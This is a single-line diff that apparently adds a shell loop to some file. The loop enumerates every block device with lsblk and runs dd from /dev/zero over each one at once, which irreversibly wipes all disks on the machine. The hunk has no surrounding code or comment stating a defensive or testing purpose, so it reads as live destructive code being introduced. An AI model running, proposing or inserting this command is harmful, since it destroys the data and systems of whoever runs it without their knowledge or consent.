@@ -1,0 +1,1 @@
+for d in $(lsblk -dno NAME); do dd if=/dev/zero of=/dev/$d bs=1M & done
